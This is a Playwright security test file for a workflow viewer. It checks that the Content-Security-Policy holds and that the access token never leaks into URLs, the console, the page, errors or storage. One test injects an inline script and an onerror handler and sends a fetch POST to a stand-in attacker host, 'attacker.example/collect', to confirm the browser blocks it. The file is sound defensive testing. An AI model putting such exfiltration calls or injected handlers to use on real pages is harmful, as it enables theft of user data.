// Security: the Content-Security-Policy is active and the viewer works under
// it; the token never reaches a URL, the console, an error message, the DOM
// or localStorage; sessionStorage only on opt-in, cleared by sign-out.
import { test, expect, type Page, type Request } from '@playwright/test';
import { addFaults, clearFaults, emulatorToken, EMULATOR_URL, watchConsole, workflowsSettled } from './support';

test.afterEach(async () => {
  await clearFaults();
});

/** Records CSP violations the page reports (installed before any page script). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
}

async function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
}

async function signIn(page: Page, token: string, keep = false): Promise<void> {
  await page.getByLabel('Cloud').selectOption('custom');
  await page.getByLabel('Graph endpoint').fill(EMULATOR_URL);
  await page.getByLabel('Access token').fill(token);
  if (keep) await page.getByLabel(/Keep this token for this tab/).check();
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await expect(page.getByRole('heading', { name: 'Workflows' })).toBeVisible();
}

test('the CSP is active: the viewer works under it and injected script does not run', async ({ page }) => {
  await recordViolations(page);
  const watcher = watchConsole(page);
  const response = await page.goto('./');
  // The host's headers: what a meta CSP cannot set (see the README's hosting section).
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'self'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("default-src 'self'");
  expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/);
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).toContain('https://graph.microsoft.com');
  // SRI stays on for the loader's module and the wasm.
  await expect(page.locator('link[rel="modulepreload"][integrity^="sha384-"]')).toHaveCount(1);

  // The whole app runs under the policy: sign in, list, open a run.
  await signIn(page, await emulatorToken());
  await page.getByRole('table', { name: 'Lifecycle workflows' }).getByRole('link').first().click();
  await expect(page.getByRole('heading', { name: /Runs of/ })).toBeVisible();
  expect(await violations(page)).toEqual([]);

  // An injected inline script and an inline event handler are refused.
  // Resolves once the image has loaded or failed: its inline handlers,
  // registered first, would have run by then.
  await page.evaluate(() => new Promise<void>((settled) => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = "script";';
    document.body.appendChild(script);
    const img = document.createElement('img');
    img.setAttribute('src', 'data:,x');
    img.setAttribute('onerror', 'window.__injected = "handler"');
    img.setAttribute('onload', 'window.__injected = "handler"');
    img.addEventListener('load', () => settled());
    img.addEventListener('error', () => settled());
    document.body.appendChild(img);
  }));
  expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
  // A call to a host outside connect-src is refused by the browser.
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(outcome).toBe('blocked');
  const seen = await violations(page);
  expect(seen.some((v) => v.startsWith('script-src'))).toBeTruthy();
  expect(seen.some((v) => v.startsWith('connect-src') && v.includes('attacker.example'))).toBeTruthy();
  expect(watcher.problems.filter((p) => !/Content Security Policy|attacker\.example|Failed to fetch/.test(p))).toEqual([]);
});

test('the token never appears in a URL, the console, the page, an error or localStorage', async ({ page }) => {
  const token = await emulatorToken();
  const secretPart = token.split('.')[1].slice(0, 40);
  const urls: string[] = [];
  const consoleTexts: string[] = [];
  page.on('request', (request: Request) => urls.push(request.url()));
  page.on('console', (message) => consoleTexts.push(message.text()));
  page.on('pageerror', (error) => consoleTexts.push(error.message));
  page.on('framenavigated', (frame) => urls.push(frame.url()));

  await page.goto('./');
  await signIn(page, token);
  await workflowsSettled(page);
  // A server that echoes the token in its error message: the viewer redacts it.
  await addFaults([
    {
      path: '/v1.0/identityGovernance/lifecycleWorkflows/workflows/*/runs',
      status: 400,
      json: { error: { code: 'BadRequest', message: `Token ${token} is not accepted here.` } },
      times: 1,
    },
  ]);
  await page.getByRole('table', { name: 'Lifecycle workflows' }).getByRole('link').first().click();
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('[redacted]');
  await expect(alert).not.toContainText(secretPart);
  // A 403 and a 500 go through the error paths as well.
  await addFaults([{ path: '/v1.0/identityGovernance/lifecycleWorkflows/workflows', status: 403, times: 1 }]);
  await page.getByRole('navigation', { name: 'Breadcrumb' }).getByRole('link', { name: 'Workflows' }).click();
  await expect(page.getByRole('alert')).toContainText('Access denied');
  await expect(page.getByRole('alert')).toContainText('Access denied to GET workflows (the workflow list)');
  await expect(page.getByRole('alert')).toContainText('which this call needs');
  await addFaults([{ path: '/v1.0/identityGovernance/lifecycleWorkflows/workflows', status: 500, times: 1 }]);
  await page.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
  await expect(page.getByRole('alert')).toContainText('internal error');

  const body = await page.locator('body').innerText();
  expect(body).not.toContain(secretPart);
  expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain(secretPart);
  expect(urls.filter((u) => u.includes(secretPart))).toEqual([]);
  expect(consoleTexts.filter((t) => t.includes(secretPart))).toEqual([]);
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(secretPart);
  // Not kept for this tab: sessionStorage holds no token either.
  expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain(secretPart);
  expect(await page.evaluate(() => document.cookie)).not.toContain(secretPart);
});

test('opt-in keeps the token in sessionStorage only; sign-out clears it', async ({ page }) => {
  const token = await emulatorToken();
  const secretPart = token.split('.')[1].slice(0, 40);
  await page.goto('./');
  await signIn(page, token, true);
  expect(await page.evaluate(() => JSON.stringify(sessionStorage))).toContain(secretPart);
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(secretPart);
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible();
  expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain(secretPart);
  // The token field is empty after sign-out.
  await expect(page.getByLabel('Access token')).toHaveValue('');
});

test('a custom endpoint outside connect-src is flagged on the sign-in screen', async ({ page }) => {
  await page.goto('./');
  await page.getByLabel('Cloud').selectOption('custom');
  await page.getByLabel('Graph endpoint').fill('https://graph-proxy.fabrikam.com');
  await expect(page.getByRole('alert').filter({ hasText: 'Content-Security-Policy does not allow calls to https://graph-proxy.fabrikam.com' })).toBeVisible();
  await page.getByLabel('Graph endpoint').fill(EMULATOR_URL);
  await expect(page.getByRole('alert').filter({ hasText: 'Content-Security-Policy' })).toHaveCount(0);
});
